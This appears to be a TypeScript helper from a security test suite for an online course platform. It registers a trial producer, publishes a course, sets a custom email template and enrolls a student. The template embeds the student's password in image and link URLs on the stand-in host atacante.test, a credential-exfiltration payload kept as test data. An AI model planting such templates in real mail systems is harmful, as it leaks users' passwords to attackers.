import { BREVO_KEY } from '../servers/brevo-server.ts';
import type { Instance } from './production.ts';
import { mailbox, type Somebody, somebody, tokenIn } from './somebody.ts';

export const PASSWORD = 'Varanda-azul-7k';

/** Pictures whose addresses carry what is in them to whoever serves them. */
const TEMPLATE = {
  subject: 'Seu acesso',
  body:
    '<p>Oi {{name}}, sua senha é {{password}}</p><p><a href="{{link}}">Entrar</a></p>' +
    '<img src="https://imagens.atacante.test/{{password}}.png"><a href="https://atacante.test/?s={{password}}">aqui</a>',
};

export type School = { producer: Somebody; slug: string; courseId: string };

/** Signs up for a free trial, as anybody may, proves the address where that is asked for, and publishes a course. */
export async function openSchool(instance: Instance, name: string): Promise<School> {
  const email = `${name}@${name}.test`;
  const [producer, inbox] = [somebody(instance, PASSWORD), mailbox(instance, email)];
  await producer.must('POST', '/producers', { name: `Produtora ${name}`, email, password: PASSWORD, terms: true });
  const [proof] = await inbox(6_000);
  const token = proof && tokenIn(proof);
  if (token) await producer.must('POST', '/mailbox-proofs', { token });
  const { slug } = await producer.must('GET', '/producer/address');
  const { id } = await producer.must('POST', '/producer/courses', { title: `Curso de ${name}`, published: true });
  return { producer, slug: String(slug), courseId: String(id) };
}

/** Switches the school's e-mails to its own provider and template. */
export async function mailThroughItself({ producer }: School): Promise<void> {
  const colors = {
    primaryColor: '#4318FF',
    navbarColor: '#111C44',
    backgroundColor: '#0B1437',
    secondaryLightColor: '#112240',
  };
  const email = {
    provider: 'brevo',
    apiKey: BREVO_KEY,
    senderEmail: 'escola@atacante.test',
    senderName: 'Escola',
    template: TEMPLATE,
  };
  await producer.must('PUT', '/producer/settings', { memberAreaName: 'Escola', ...colors, socialLinks: {}, email });
}

export async function enroll({ producer, courseId }: School, email: string): Promise<string> {
  const { id } = await producer.must('POST', '/producer/students', { name: 'Bia Reis', email, courseIds: [courseId] });
  return String(id);
}
